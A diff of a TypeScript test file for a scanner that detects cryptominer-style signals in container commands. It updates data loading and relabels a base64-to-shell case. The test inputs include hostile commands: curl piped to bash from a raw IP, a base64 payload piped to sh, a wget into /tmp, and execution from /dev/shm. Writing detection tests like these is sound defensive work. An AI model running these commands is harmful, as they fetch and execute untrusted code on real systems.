@@ -1,11 +1,10 @@
-import { readFile } from 'node:fs/promises'
 import t from 'tap'
-import { parse } from 'yaml'
 import { containerTexts } from '../../src/detect/container-text.ts'
 import { expandVariables } from '../../src/detect/expansion.ts'
-import { compileSignalScanner, type Scoring, type Signal, type SignalLists, safeQuote, scoreSignals } from '../../src/detect/signals.ts'
+import { compileSignalScanner, type Signal, safeQuote, scoreSignals } from '../../src/detect/signals.ts'
+import { defaultSignalData } from '../helpers/signal-data.ts'
 
-const data = parse(await readFile(new URL('../../policies/data/miner-signals.yaml', import.meta.url), 'utf8')) as SignalLists & Scoring
+const data = await defaultSignalData()
 const scan = compileSignalScanner(data)
 
 function signalsIn(text: string): { kind: string; quote: string }[] {
@@ -31,7 +30,7 @@ const cases: [string, { kind: string; quote: string }[]][] = [
     ],
   ],
   ['curl -s http://10.0.0.5/d.sh | bash', [{ kind: 'download-to-shell', quote: '| bash' }]],
-  ['echo aGk= | base64 -d | sh', [{ kind: 'download-to-shell', quote: '| sh' }]],
+  ['echo aGk= | base64 -d | sh', [{ kind: 'decode-to-shell', quote: '| sh' }]],
   ['wget -O /tmp/.x https://example.com/x', [{ kind: 'download-to-tmp', quote: '-O /tmp/.x' }]],
   ['chmod +x /dev/shm/k && /dev/shm/k', [{ kind: 'exec-from-tmp', quote: 'chmod +x /dev/shm/k' }]],
   ['chmod 755 /usr/local/bin/tool', []],
@@ -75,7 +74,7 @@ t.test('a base64 script is decoded and read, with the field saying so', async (t
     found.map(({ kind, field }) => `${field} ${kind}`),
     [
       'command[2] (base64-decoded) raw-ip-download',
-      'command[2] download-to-shell',
+      'command[2] decode-to-shell',
       'command[2] (base64-decoded) download-to-tmp',
       'command[2] (base64-decoded) pool-domain',
     ],
